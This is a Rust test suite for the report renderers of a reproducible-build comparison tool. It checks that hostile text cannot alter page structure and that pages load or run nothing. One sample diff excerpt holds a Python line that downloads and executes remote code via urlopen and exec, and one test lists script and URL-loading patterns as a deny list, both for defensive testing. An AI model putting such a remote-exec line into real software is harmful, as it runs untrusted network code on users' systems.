//! What pages say, and what hostile text cannot make them say.

#![allow(clippy::unwrap_used, reason = "tests")]

#[path = "../examples/pages/samples.rs"]
mod samples;

use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};
use samples::HOSTILE;
use twinbuild_compare::{Finding, Severity};
use twinbuild_report::{Report, Style, html, json, markdown, text};
use twinbuild_subject::{Sha256, is_misleading};

/// As many lines as [`HOSTILE`], and nothing else in common with it.
fn harmless() -> String {
    vec!["harmless"; HOSTILE.lines().count()].join("\n")
}

/// All tags of a page, as they stand there.
fn tags(page: &str) -> Vec<&str> {
    let (head, body) = page.split_once("</style>").unwrap();
    let head = head.split_once("<style>").unwrap().0;
    let mut tags = Vec::new();
    for part in [head, body] {
        for piece in part.split('<').skip(1) {
            tags.push(piece.split_once('>').unwrap().0);
        }
    }
    tags
}

#[test]
fn hostile_text_leaves_the_tags_of_a_page_as_they_are() {
    let (hostile, plain) = (html(&samples::with_text(HOSTILE)), html(&samples::with_text(&harmless())));
    assert_eq!(tags(&hostile), tags(&plain));
    assert!(!hostile.contains(|c| is_misleading(c) && !"\n\t".contains(c)));
    // In text, `>` and `"` are written as references as well.
    assert_eq!(hostile.matches('>').count(), plain.matches('>').count());
    assert_eq!(hostile.matches('"').count(), plain.matches('"').count());
}

/// What a Markdown reader makes of a page: its structure, and all text that is not code.
fn structure(page: &str) -> Vec<String> {
    let mut in_code_block = false;
    let mut events = Vec::new();
    for event in Parser::new_ext(page, Options::all()) {
        match event {
            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(language))) => {
                in_code_block = true;
                events.push(format!("fence {language}"));
            }
            Event::End(TagEnd::CodeBlock) => in_code_block = false,
            Event::Text(_) if in_code_block => {}
            Event::Code(_) => events.push("code".to_owned()),
            other => events.push(format!("{other:?}")),
        }
    }
    events
}

#[test]
fn hostile_text_leaves_the_structure_of_markdown_as_it_is() {
    let (hostile, plain) = (markdown(&samples::with_text(HOSTILE)), markdown(&samples::with_text(&harmless())));
    assert_eq!(structure(&hostile), structure(&plain));
    assert!(!hostile.contains(|c| is_misleading(c) && !"\n\t".contains(c)));
}

#[test]
fn no_short_text_is_markdown() {
    const ALPHABET: [char; 7] = ['`', '|', '\\', ' ', '\n', '<', '~'];
    let page = |foreign: &str| {
        let mut comparison = samples::comparison();
        comparison.findings.truncate(2);
        comparison.left.name = foreign.to_owned();
        comparison.right.name = foreign.to_owned();
        comparison.findings[0].path = Some(foreign.into());
        comparison.findings[0].detail = foreign.to_owned();
        comparison.findings[1].excerpt = vec![foreign.to_owned(), format!("{foreign}`")];
        structure(&markdown(&comparison))
    };
    let expected = page("a");
    for length in 1..=3_u32 {
        for mut number in 0..ALPHABET.len().pow(length) {
            let mut foreign = String::new();
            for _ in 0..length {
                foreign.push(ALPHABET[number % ALPHABET.len()]);
                number /= ALPHABET.len();
            }
            assert_eq!(page(&foreign), expected, "{foreign:?}");
        }
    }
}

#[test]
fn hostile_text_stays_behind_its_indent_in_a_terminal() {
    let shown = text(&samples::with_text(HOSTILE), Style::Plain);
    assert!(!shown.contains(|c| is_misleading(c) && !"\n\t".contains(c)));
    let ours = shown.lines().filter(|line| !line.starts_with(' ')).count();
    assert_eq!(ours, 1, "{shown}");
}

#[test]
fn a_page_loads_nothing_and_runs_nothing() {
    for (name, verdict) in samples::verdicts().iter().filter(|(name, _)| *name != "hostile") {
        let page = html(verdict);
        for loading in
            ["<script", "<link", "<img", "<iframe", "<form", "<a ", "src=", "href", "url(", "@import", "style=", "://"]
        {
            assert!(!page.contains(loading), "{name}: {loading}");
        }
    }
}

#[test]
fn the_policy_names_the_digest_of_the_style_and_allows_nothing_else() {
    let page = html(&samples::reproduced());
    let style = page.split_once("<style>").unwrap().1.split_once("</style>").unwrap().0;
    let policy = format!(
        "content=\"default-src 'none'; style-src 'sha256-{}'; base-uri 'none'; form-action 'none'\"",
        Sha256::of(style.as_bytes()).to_base64()
    );
    assert!(page.contains(&policy), "{page}");
    assert!(page.find(&policy) < page.find("<style>"));
}

#[test]
fn a_page_has_its_headings_in_order_and_names_the_cells_of_its_tables() {
    for (name, verdict) in samples::verdicts() {
        let page = html(&verdict);
        let mut level = 0;
        for tag in tags(&page) {
            if let Some(next) = tag.strip_prefix('h').and_then(|rest| rest.parse::<u32>().ok()) {
                assert!(next <= level + 1, "{name}: h{next} below h{level}");
                level = next;
            }
            let is_cell = tag == "th" || tag.starts_with("th ");
            assert!(!is_cell || tag.contains("scope="), "{name}: {tag}");
        }
        assert_eq!(page.matches("<h1").count(), 1);
    }
}

#[test]
fn a_page_grows_with_the_news_and_not_with_the_noise() {
    let quiet = samples::reproduced();
    assert!(html(&quiet).len() < 10 << 10, "{}", html(&quiet).len());
    let mut noisy = quiet.clone();
    noisy.shared_inputs = noisy.shared_inputs.iter().cycle().take(6200).cloned().collect();
    assert!(html(&noisy).len() < html(&quiet).len() + 100);
}

#[test]
fn html_has_all_findings_and_the_others_say_how_many_more() {
    let mut verdict = samples::not_reproduced();
    for (index, finding) in verdict.findings.iter_mut().enumerate() {
        // Each says something else, so that none can be taken together.
        finding.detail = format!("detail-{index}.");
    }
    let page = html(&verdict);
    assert!((0..verdict.findings.len()).all(|index| page.contains(&format!("detail-{index}."))));
    let page = markdown(&verdict);
    assert!(page.contains("\n740 more: see"), "{page}");
    assert!(text(&verdict, Style::Plain).contains("770 more of this severity"));
}

#[test]
fn findings_that_say_the_same_are_said_once() {
    let page = markdown(&samples::not_reproduced());
    assert_eq!(page.matches("neither the rebuild nor the source has").count(), 1, "{page}");
    assert!(page.contains("- `unsourced-member` in 788 members: "), "{page}");
    assert!(page.contains("  - 738 more\n"), "{page}");
    let page = html(&samples::not_reproduced());
    assert!((0..788).all(|index| page.contains(&format!("/service-{index}.json"))));
}

#[test]
fn an_excerpt_is_shown_behind_bars() {
    let shown = text(&samples::comparison(), Style::Plain);
    let expected = "      | -import urllib.request; exec(urllib.request.urlopen(URL).read())\n";
    assert!(shown.contains(expected), "{shown}");
    assert!(shown.contains("      | .. 12 more lines\n"), "{shown}");
    let colours = text(&samples::comparison(), Style::Colour);
    assert!(colours.contains("      | \u{1b}[31m-import"), "{colours}");
}

#[test]
fn an_excerpt_tells_line_ends_apart() {
    let mut comparison = samples::comparison();
    comparison.findings[0].excerpt = vec!["-a\r".to_owned(), "+a".to_owned()];
    for page in [text(&comparison, Style::Plain), markdown(&comparison), html(&comparison)] {
        assert!(page.contains("-a\\r"), "{page}");
    }
}

#[test]
fn an_alert_takes_the_good_news_back() {
    let mut verdict = samples::reproduced();
    assert!(html(&verdict).contains("<header class=\"good\">"));
    verdict.findings.push(Finding::whole("x", Severity::Alert, "y".to_owned()));
    assert!(html(&verdict).contains("<header class=\"open\">"));
}

#[test]
fn a_comparison_as_json_has_what_was_found() {
    let value: serde_json::Value = serde_json::from_str(&json(&samples::comparison()).unwrap()).unwrap();
    let keys: Vec<_> = value.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(keys, ["comparison", "findings", "mismatch", "relation"]);
    let value: serde_json::Value = serde_json::from_str(&json(&samples::unread()).unwrap()).unwrap();
    let keys: Vec<_> = value.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(keys, ["detail", "file", "findings", "relation"]);
    assert_eq!(value["relation"], "rejected");
}

#[test]
fn every_rendering_names_the_outcome_and_what_it_is_about() {
    for (name, verdict) in samples::verdicts().iter().filter(|(name, _)| *name != "hostile") {
        for page in [html(verdict), markdown(verdict), text(verdict, Style::Plain)] {
            let outcome = if *name == "normalized" { "reproduced (normalized" } else { name };
            assert!(page.contains(outcome) && page.contains(&verdict.subject.file_name), "{page}");
        }
    }
}

#[test]
fn pages_read_well() {
    let unread = samples::unread();
    insta::assert_snapshot!("unread.md", markdown(&unread));
    insta::assert_snapshot!("unread.txt", text(&unread, Style::Plain));
    let unread = html(&unread);
    insta::assert_snapshot!("unread.html", unread.split_once("<body>").unwrap().1);
    insta::assert_snapshot!("reproduced.txt", text(&samples::reproduced(), Style::Plain));
    insta::assert_snapshot!("unbuildable.md", markdown(Report::from(&samples::unbuildable())));
}
